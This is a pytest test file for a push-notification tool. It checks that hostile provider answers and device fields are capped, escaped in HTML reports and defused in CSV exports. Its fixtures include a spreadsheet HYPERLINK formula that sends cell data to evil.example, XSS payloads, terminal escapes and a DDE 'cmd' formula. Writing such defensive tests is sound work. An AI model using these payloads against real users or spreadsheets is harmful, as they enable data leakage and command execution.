"""What comes from outside stays data on the way out: provider answers and hostile names
end up in the journal, the HTML report and CSV exports as capped, escaped text.

A fake Web Push service (real HTTP/2 over TLS) answers every push with a huge body whose
reason is a spreadsheet formula with HTML and a terminal escape in it; the campaign's
variant names are formulas too.
"""

from __future__ import annotations

import csv
import html
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from pushdeck.core.campaigns.dispatch import DispatchOptions, send_campaign_async
from pushdeck.core.campaigns.library import create_campaign
from pushdeck.core.campaigns.spec import spec_from_dict
from pushdeck.core.common.csv_cells import FORMULA_STARTS, read_cell, safe_writer
from pushdeck.core.common.model import App, ProviderKind
from pushdeck.core.common.untrusted import MAX_PROVIDER_TEXT
from pushdeck.core.devices.export import export_devices
from pushdeck.core.devices.importer import import_devices
from pushdeck.core.providers.base import create_provider
from pushdeck.core.providers.credentials import WebPushCredential
from pushdeck.core.providers.webpush_crypto import generate_vapid_keys
from pushdeck.core.reports.dashboard import (
    dashboard_data,
    render_html,
    write_aggregates_csv,
    write_devices_csv,
)
from pushdeck.core.store import Workspace
from pushdeck.core.store import devices as device_store
from pushdeck.core.store.apps import add_app
from tests.core.campaign_helpers import add_devices
from tests.fakes import tls
from tests.fakes.webpush_server import FakeWebPushService

HOSTILE_REASON = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")<img src=x onerror=alert(1)>'
    "\x1b[2J\x1b]0;pwned\x07\u202e" + "A" * 1_000_000
)
VARIANTS = ('=1+2<img src=v onerror="alert(2)">', "@SUM(A1)</td><script>alert(3)</script>")
TITLE = "<script>alert('title')</script> & more"


@pytest.fixture
async def service(tmp_path: Path, allow_local_endpoints: None) -> AsyncIterator[FakeWebPushService]:
    fake = await FakeWebPushService(tls.make_pki(tmp_path / "pki")).start()
    yield fake
    await fake.aclose()


def _spreadsheet_safe(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


async def test_a_hostile_answer_is_stored_and_reported_as_capped_text(
    ws: Workspace, service: FakeWebPushService, tmp_path: Path
) -> None:
    # Enough that both 50 % variants get subscriptions whatever tokens come out.
    subs = [service.subscribe() for _ in range(40)]
    add_devices(
        ws,
        [
            {"token": s.endpoint, "provider": "webpush", "p256dh": s.p256dh, "auth": s.auth}
            for s in subs
        ],
    )
    body = json.dumps({"reason": HOSTILE_REASON}).encode()
    service.server.fail_next(len(subs), 400, {"content-type": "application/json"}, body)
    doc = {
        "name": "C",
        "app": "shop",
        "audience": {"all": True},
        "message": {"title": TITLE},
        "variants": [{"name": VARIANTS[0], "percent": 50}, {"name": VARIANTS[1], "percent": 50}],
    }
    create_campaign(ws, spec_from_dict(doc))
    keys = generate_vapid_keys()
    ca_file = str(tmp_path / "pki" / "ca.pem")
    provider = create_provider(
        WebPushCredential(keys.private_key_pem, keys.public_key, "mailto:t@example.com", ca_file)
    )
    try:
        summary = await send_campaign_async(
            ws, "C", providers={ProviderKind.WEBPUSH: provider}, options=DispatchOptions()
        )
    finally:
        await provider.aclose()
    assert summary.counts == {"rejected": len(subs)}

    # Stored: one line of plain text, capped.
    reasons = [r[0] for r in ws.query("SELECT reason FROM journal")]
    assert len(reasons) == len(subs)
    for reason in reasons:
        assert len(reason) <= MAX_PROVIDER_TEXT and reason.endswith("…")
        assert reason.startswith('=HYPERLINK("https://evil.example/')
        assert not any(ch in reason for ch in "\x1b\x07\u202e\n")

    # Shown: escaped in the HTML report; nothing from the answer is markup.
    data = dashboard_data(ws, "C")
    page = render_html(data, {})
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<script" not in page and "<img src=v" not in page
    for name in VARIANTS:
        assert html.escape(name) in page or html.escape(name, quote=False) in page
    assert html.escape(TITLE, quote=False) in page or html.escape(TITLE) in page

    # Exported: formulas defused, and read back to exactly what was stored.
    per_device = io.StringIO()
    write_devices_csv(ws, "C", per_device)
    _spreadsheet_safe(per_device.getvalue())
    rows = list(csv.DictReader(io.StringIO(per_device.getvalue())))
    assert {read_cell(r["reason"]) for r in rows} == set(reasons)
    assert {read_cell(r["variant"]) for r in rows} <= set(VARIANTS)
    assert all(r["variant"].startswith("'") for r in rows)
    aggregates = io.StringIO()
    write_aggregates_csv(data, aggregates)
    _spreadsheet_safe(aggregates.getvalue())
    groups = [read_cell(r["group"]) for r in csv.DictReader(io.StringIO(aggregates.getvalue()))]
    assert set(VARIANTS) <= set(groups)


@pytest.mark.parametrize(
    "text",
    ["=1+2", "+1", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''-1", "'plain", "plain", "", "a=b"],
)
def test_a_cell_reads_back_to_what_was_written(text: str) -> None:
    out = io.StringIO()
    safe_writer(out).writerow([text, 7, -3])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert read_cell(cells[0]) == text
    assert not cells[0].startswith(FORMULA_STARTS)
    assert cells[1:] == ["7", "-3"]  # numbers Pushdeck computed stay numbers


def test_device_export_defuses_formulas_and_imports_back_unchanged(
    ws: Workspace, tmp_path: Path
) -> None:
    tags = ["=cmd|' /C calc'!A0", "+1", "-5", "@SUM(1)", "'=quoted", "vip"]
    source = tmp_path / "in.ndjson"
    source.write_text(
        "\n".join(
            json.dumps(
                {
                    "token": token,
                    "platform": "ios",
                    "provider": "sandbox",
                    "tags": [tag],
                    "attributes": {"note": tag, "score": -5},
                }
            )
            for token, tag in zip(
                ["=1+2", "-42", "@me", "'=x", "+33612345678", "ok"], tags, strict=True
            )
        ),
        encoding="utf-8",
    )
    assert import_devices(ws, source, "shop").inserted == 6
    exported = tmp_path / "devices.csv"
    with exported.open("w", newline="", encoding="utf-8") as fh:
        assert export_devices(ws, fh, "csv") == 6
    _spreadsheet_safe(exported.read_text(encoding="utf-8"))

    other = Workspace.open(tmp_path / "copy.pushdeck")
    add_app(other, App("shop"))
    try:
        report = import_devices(other, exported, "shop")
        assert (report.inserted, report.rejected_count) == (6, 0)
        before = {d.token: (d.tags, d.attributes) for d in device_store.list_devices(ws)}
        after = {d.token: (d.tags, d.attributes) for d in device_store.list_devices(other)}
        assert after == before
    finally:
        other.close()


def test_rejected_rows_report_is_safe_to_open(ws: Workspace, tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    source.write_text(
        "token,platform,locale,timezone\n"
        f'{"a1" * 32},ios,=HYPERLINK("x"),UTC\n'
        f"{'a1' * 32},-ios,en,UTC\n"
        f"{'a1' * 32},ios,en,@Mars/Olympus\n",
        encoding="utf-8",
    )
    report_file = tmp_path / "rejected.csv"
    report = import_devices(ws, source, "shop", report_file=report_file)
    assert report.rejected_count == 3
    text = report_file.read_text(encoding="utf-8")
    _spreadsheet_safe(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [read_cell(r["reason"]) for r in rows] == [r.reason for r in report.rejected]
    assert [r["line"] for r in rows] == ["2", "3", "4"]
